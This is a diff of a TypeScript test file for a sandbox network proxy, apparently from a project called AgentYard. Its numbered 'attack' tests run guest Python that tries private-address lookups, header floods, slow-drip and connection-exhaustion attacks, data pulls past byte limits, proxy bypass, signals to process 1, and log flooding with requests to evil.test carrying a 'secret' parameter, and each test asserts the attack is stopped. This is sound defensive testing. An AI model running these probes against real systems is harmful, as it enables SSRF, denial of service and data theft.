@@ -3,12 +3,24 @@ import { spawnSync } from "node:child_process";
 import { once } from "node:events";
 import { readFileSync } from "node:fs";
 import { createServer as createTlsServer } from "node:https";
+import type { Server } from "node:net";
+import { createServer } from "node:net";
 import { networkInterfaces } from "node:os";
 import { join } from "node:path";
 import { after, test } from "node:test";
+import { type Clock, systemClock } from "../../src/base/clock.ts";
+import { systemIds } from "../../src/base/ids.ts";
+import type { Logger } from "../../src/observe/observe.ts";
+import { localOwner } from "../../src/protocol/ids.ts";
+import { openNetwork } from "../../src/sandbox/network/network.ts";
+import type { ProxyLimits } from "../../src/sandbox/network/proxy.ts";
+import { proxyLimits } from "../../src/sandbox/network/proxy.ts";
+import type { Lookup } from "../../src/web/web.ts";
 import { cannotStart } from "../contracts/sandbox-guests.ts";
-import { attempt, newFolder } from "./guest.ts";
-import { forbidden, heard, mirror, openReaching, port, portOf, reaching, said, secret } from "./reaching.ts";
+import { until } from "../world/events.ts";
+import { manualClock } from "../world/manual-clock.ts";
+import { serveHttp } from "../world/package-index.ts";
+import { type Attacked, attackerUid, attempt, conversation, limits, newFolder, openProvider } from "./guest.ts";
 
 // Whom a program reaches with the one way out that an operator has opened for it, and whom not.
 
@@ -140,7 +152,7 @@ test(
   "attack 185: an allowed name that leads to a private address is stopped when it is looked up [X5]",
   options,
   async () => {
-    for (const [addresses, why] of [
+    const places = [
       [["10.1.2.3"], "private"],
       [["127.0.0.1", "::1"], "private"],
       [["fd12::1"], "private"],
@@ -151,11 +163,12 @@ test(
       [["2002:7f00:1::"], "never"],
       [["0.0.0.0"], "never"],
       [["224.0.0.1", "fe80::1"], "never"],
-    ] as const) {
-      const attacked = await openReaching({ hosts: ["mirror.test"], privateHosts: [], lookup: async () => addresses });
-      assert.equal(await said(`say(status(tunnel("mirror.test:80")))`, attacked), forbidden);
+    ] as const;
+    const lookup = async (host: string) => places[Number.parseInt(host, 10)]?.[0] ?? [];
+    const attacked = await openReaching({ hosts: ["*.mirror.test"], privateHosts: [], lookup });
+    for (const [number, [, why]] of places.entries()) {
+      assert.equal(await said(`say(status(tunnel("${number}.mirror.test:80")))`, attacked), forbidden);
       assert.match(attacked.logged.at(-1) ?? "", new RegExp(`"why":"${why}"`));
-      await attacked.guest.close("done");
     }
   },
 );
@@ -211,14 +224,16 @@ test(
     const before = heard.length;
     const all = Object.values(networkInterfaces()).flatMap((some) => some ?? []);
     const mine = all.find(({ internal, family }) => !internal && family === "IPv4");
-    const text = `${mirror} is AgentYard itself, which no program may reach`;
-    for (const address of ["127.0.0.1", "127.0.0.2", "::1", mine?.address ?? "127.0.0.1"]) {
-      const shut = await openReaching({ lookup: async () => [address], ownPorts: new Set([port]) });
-      assert.deepEqual(await said(`say([status(get("http://${mirror}/")), ask(tunnel("${mirror}"))])`, shut), [
+    const addresses = ["127.0.0.1", "127.0.0.2", "::1", mine?.address ?? "127.0.0.1"];
+    const hosts = addresses.map((_, number) => `${number}.test:${port}`);
+    const lookup = async (host: string) => addresses.slice(Number.parseInt(host, 10)).slice(0, 1);
+    const shut = await openReaching({ hosts, privateHosts: hosts, lookup, ownPorts: new Set([port]) });
+    for (const host of hosts) {
+      const text = `${host} is AgentYard itself, which no program may reach`;
+      assert.deepEqual(await said(`say([status(get("http://${host}/")), ask(tunnel("${host}"))])`, shut), [
         forbidden,
         `HTTP/1.1 403 Forbidden: ${text}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: ${text.length + 1}\r\nConnection: close\r\n\r\n${text}\n`,
       ]);
-      await shut.guest.close("done");
     }
     assert.equal(heard.length, before);
     const beside = await openReaching({ ownPorts: new Set([port + 1]) });
@@ -283,3 +298,318 @@ test(
     assert.deepEqual([answers, heard.length], [new Array(requests.length).fill("400 Bad Request"), before]);
   },
 );
+
+// What a program can try with the one way out that an operator has opened for it.
+
+/** The host that is allowed, and what else this machine has to offer. */
+export const heard: string[] = [];
+
+export const port = await serveHttp({ after }, (request, response) => {
+  heard.push(`${request.method} ${request.headers.host} ${request.url}`);
+  if (request.url === "/away") return response.writeHead(302, { location: `http://secret.test:${port}/` }).end();
+  if (request.url === "/endless") return void endless(() => response.write(Buffer.alloc(65_536)));
+  return response.end("hello");
+
+  function endless(write: () => boolean): void {
+    while (!response.destroyed && write());
+    response.once("drain", () => endless(write));
+  }
+});
+
+export const secret = await serveHttp({ after }, (_, response) => response.end("secret"));
+
+export const mirror = `mirror.test:${port}`;
+
+type Wanted = {
+  readonly hosts?: readonly string[];
+  readonly privateHosts?: readonly string[];
+  readonly lookup?: Lookup;
+  readonly ownPorts?: ReadonlySet<number>;
+  readonly limits?: Partial<ProxyLimits>;
+  readonly clock?: Clock;
+};
+
+type Reaching = Attacked & {
+  readonly logged: string[];
+  /** One more guest of the same user. */
+  beside(): Promise<Attacked>;
+};
+
+/** A guest that may reach the mirror, which is on this machine. */
+export async function openReaching(wanted: Wanted = {}): Promise<Reaching> {
+  const logged: string[] = [];
+  const { hosts = [mirror], privateHosts = [mirror], lookup = async () => ["127.0.0.1"] } = wanted;
+  const network = openNetwork({
+    ...{ rules: { hosts, privateHosts }, lookup, limits: wanted.limits, clock: wanted.clock ?? systemClock },
+    ownPorts: wanted.ownPorts,
+    logger: loggerInto(logged),
+  });
+  const provider = openProvider();
+  const open = async (): Promise<Attacked> => {
+    const workspace = conversation(newFolder());
+    const opened = await provider.open({
+      ...{ id: systemIds.hex(16), workspace, limits, uid: attackerUid, env: {} },
+      network: network.wayOut(localOwner),
+    });
+    assert.ok(opened.ok, opened.ok ? "" : `${opened.failure.why}: ${opened.failure.said}`);
+    return { guest: opened.value, folder: workspace.folder };
+  };
+  return { ...(await open()), logged, beside: open };
+}
+
+function loggerInto(lines: string[]): Logger {
+  const note = (text: string, fields?: object) => void lines.push(`${text} ${JSON.stringify(fields ?? {})}`);
+  const ended = async () => {};
+  return { path: undefined, debug: note, info: note, warn: note, error: note, flush: ended, close: ended };
+}
+
+let shared: Promise<Reaching> | undefined;
+
+export function reaching(): Promise<Reaching> {
+  shared ??= openReaching({
+    hosts: [mirror, "*.allowed.test", "allowed.test:8443"],
+    lookup: async (host) => (host === "nowhere.allowed.test" ? [] : ["127.0.0.1"]),
+  });
+  return shared;
+}
+
+/** `ask(request)`: the first line of the answer and how it goes on. */
+const asking = `
+def ask(request):
+    with socket.create_connection(("127.0.0.1", 3128), 30) as s:
+        s.sendall(request.encode("latin1"))
+        answer = b""
+        try:
+            while piece := s.recv(65536):
+                answer += piece
+        except (TimeoutError, ConnectionError) as error:
+            return type(error).__name__
+    return answer.decode("latin1")
+def status(request):
+    return ask(request).split("\\r\\n")[0].removeprefix("HTTP/1.1 ").split(":")[0]
+def get(url):
+    return "GET " + url + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
+def tunnel(place):
+    return "CONNECT " + place + " HTTP/1.1\\r\\n\\r\\n"
+`;
+
+export const said = async (code: string, attacked?: Attacked) =>
+  attempt(attacked ?? (await reaching()), { code: `${asking}\n${code}`, timeoutMs: 60_000 });
+
+export const forbidden = "403 Forbidden";
+
+export function portOf(server: Pick<Server, "address">): number {
+  const address = server.address();
+  return address !== null && typeof address === "object" ? address.port : 0;
+}
+
+test(
+  "attack 191: a flood of headers and a request that never ends are stopped by size and time [X5][X4]",
+  options,
+  async () => {
+    const flood = `say(status("GET http://${mirror}/ HTTP/1.1\\r\\n" + "A: " + "b" * 40000))`;
+    assert.equal(await said(flood), "431 Request Header Fields Too Large");
+    const drip = `
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"GET http://${mirror}/ HTTP/1.1\\r\\n")
+s.settimeout(0.02)
+answer = b""
+began = time.monotonic()
+while not answer and time.monotonic() - began < 30:
+    try:
+        s.sendall(b"A: b\\r\\n")
+        answer = s.recv(65536)
+    except TimeoutError:
+        pass
+say(answer.decode().split(":")[0])
+`;
+    const clock = manualClock();
+    const slow = await openReaching({ clock });
+    const dripped = said(drip, slow);
+    await until("it is refused", () => {
+      clock.move(proxyLimits.headMsMax / 20);
+      return slow.logged.length > 0;
+    });
+    assert.equal(await dripped, "HTTP/1.1 408 Request Timeout");
+  },
+);
+
+test(
+  "attack 192: too many connections at once wait, and those that say nothing make room in time [X5][X4]",
+  options,
+  async () => {
+    const { connectionsMax, headMsMax } = proxyLimits;
+    const clock = manualClock();
+    const busy = await openReaching({ clock });
+    const code = `
+held = [socket.create_connection(("127.0.0.1", 3128), 30) for _ in range(${connectionsMax + 8})]
+say(status(get("http://${mirror}/late")))
+`;
+    const late = said(code, busy);
+    await until("no place is left", () => clock.timers() === connectionsMax);
+    clock.move(headMsMax);
+    await until("those who said nothing are told so", () => busy.logged.length === connectionsMax);
+    clock.move(headMsMax);
+    assert.equal(await late, "200 OK");
+  },
+);
+
+test(
+  "attack 193: a connection that nobody reads does not hold up others, nor fill the memory of the host [X5][X4]",
+  options,
+  async () => {
+    const unread = await openReaching();
+    const code = `
+held = []
+for _ in range(8):
+    s = socket.create_connection(("127.0.0.1", 3128), 30)
+    s.sendall(get("http://${mirror}/endless").encode())
+    s.recv(10)
+    held.append(s)
+say([status(get("http://${mirror}/beside")) for _ in range(5)])
+`;
+    const before = process.memoryUsage().arrayBuffers;
+    assert.deepEqual(await said(code, unread), new Array(5).fill("200 OK"));
+    assert.ok(process.memoryUsage().arrayBuffers - before < 64 * 1024 * 1024);
+  },
+);
+
+test(
+  "attack 194: carrying off more than the limit is stopped by counting, also over many connections [X5][X4]",
+  options,
+  async () => {
+    const limited = await openReaching({ limits: { connectionBytesMax: 100_000, ownerBytesMax: 150_000 } });
+    const code = `
+first, second = len(ask(get("http://${mirror}/endless"))), len(ask(get("http://${mirror}/endless")))
+say([first < 300000, second < 300000, status(get("http://${mirror}/"))])
+`;
+    assert.deepEqual(await said(code, limited), [true, true, forbidden]);
+  },
+);
+
+test(
+  "attack 202: carrying off more than the limit by ever new sandboxes is stopped by counting what a user's sandboxes move together [X5][X4]",
+  options,
+  async () => {
+    const first = await openReaching({ limits: { ownerBytesMax: 100_000 } });
+    const second = await first.beside();
+    assert.equal(await said(`say(len(ask(get("http://${mirror}/endless"))) < 300000)`, first), true);
+    await first.guest.close("left");
+    const third = await first.beside();
+    const answers = [second, third].map((guest) => said(`say(status(get("http://${mirror}/")))`, guest));
+    assert.deepEqual(await Promise.all(answers), [forbidden, forbidden]);
+  },
+);
+
+test(
+  "attack 195: a tunnel that is kept open without use, or for ever, is stopped by time [X5][X4]",
+  options,
+  async () => {
+    const server: Server = createServer((socket) => socket.on("error", () => {}).on("data", () => socket.write("x")));
+    server.listen(0, "127.0.0.1");
+    await once(server, "listening");
+    after(() => server.close());
+    const place = `mirror.test:${portOf(server)}`;
+    const rules = { hosts: [place], privateHosts: [place] };
+    const clock = manualClock();
+    const idle = await openReaching({ ...rules, clock, limits: { idleMsMax: 300 } });
+    const long = await openReaching({ ...rules, clock, limits: { connectionMsMax: 600 } });
+    const code = `
+s = socket.create_connection(("127.0.0.1", 3128), 30)
+s.sendall(tunnel("${place}").encode())
+s.recv(1000)
+try:
+    while True:
+        s.sendall(b"x") if IS_BUSY else None
+        if not s.recv(10):
+            break
+    say("closed")
+except ConnectionError:
+    say("closed")
+`;
+    for (const [isBusy, attacked, why] of [
+      ["False", idle, "idle"],
+      ["True", long, "time"],
+    ] as const) {
+      const connected = once(server, "connection");
+      const ended = said(`IS_BUSY = ${isBusy}\n${code}`, attacked);
+      await connected;
+      await until("it is cut", () => {
+        clock.move(100);
+        return attacked.logged.length > 0;
+      });
+      assert.equal(await ended, "closed");
+      assert.match(attacked.logged.join(), new RegExp(`^a connection of a program was cut .*"why":"${why}"\\}$`));
+    }
+  },
+);
+
+test(
+  "attack 196: using the way out of another conversation is stopped by a network for each [X5][X3]",
+  options,
+  async () => {
+    const without = await openProvider().open({
+      ...{ id: systemIds.hex(16), workspace: conversation(newFolder()), limits, uid: attackerUid, env: {} },
+    });
+    assert.ok(without.ok);
+    await reaching();
+    const code = `say([error_of(socket.create_connection, ("127.0.0.1", 3128), 2), [name for name in os.environ if "proxy" in name.lower()]])`;
+    assert.deepEqual(await attempt({ guest: without.value, folder: "" }, { code }), ["ECONNREFUSED", []]);
+  },
+);
+
+test("attack 197: going around the proxy is stopped by a network that has nothing else [X5]", options, async () => {
+  const code = `
+def look():
+    try:
+        return socket.getaddrinfo("mirror.test", 80)
+    except socket.gaierror:
+        return "no answer"
+say([look(), error_of(socket.create_connection, ("127.0.0.1", ${port}), 2), error_of(socket.create_connection, ("192.0.2.1", 80), 2), os.path.exists("/etc/resolv.conf") and text_of("/etc/resolv.conf") or "nobody"])
+`;
+  assert.deepEqual(await said(code), ["no answer", "ECONNREFUSED", "ENETUNREACH", "nobody"]);
+});
+
+test(
+  "attack 198: taking the supervisor's socket to the proxy is stopped, for no program inherits it or looks in [X5]",
+  options,
+  async () => {
+    const code = `
+kinds = sorted(os.readlink(f"/proc/self/fd/{fd}").split(":")[0] for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{fd}"))
+say([kinds.count("socket"), error_of(os.listdir, "/proc/1/fd"), error_of(lambda: socket.create_server(("127.0.0.1", 3128), reuse_port=True))])
+`;
+    // Its one socket is the link of its own Python.
+    assert.deepEqual(await said(code), [1, "EACCES", "EADDRINUSE"]);
+  },
+);
+
+test(
+  "attack 199: ending the way out for all programs of a conversation is stopped by its being part of process 1 [X5]",
+  options,
+  async () => {
+    const code = `
+for number in range(1, 32):
+    try:
+        os.kill(1, number)
+    except OSError:
+        pass
+for _ in range(300):
+    s = socket.create_connection(("127.0.0.1", 3128), 30)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    s.sendall(b"CONNECT ${mirror} HTTP/1.1\\r\\n\\r\\n")
+    s.close()
+say(status(get("http://${mirror}/after")))
+`;
+    assert.equal(await said(code), "200 OK");
+  },
+);
+
+test("attack 200: filling the log with refusals is stopped after some [X5][X4]", options, async () => {
+  const noisy = await openReaching();
+  assert.equal(
+    await said(`say(len({status(get("http://evil.test/?secret=" + str(n))) for n in range(400)}))`, noisy),
+    1,
+  );
+  assert.equal(noisy.logged.length, 200);
+  assert.ok(!noisy.logged.join("").includes("secret"));
+});
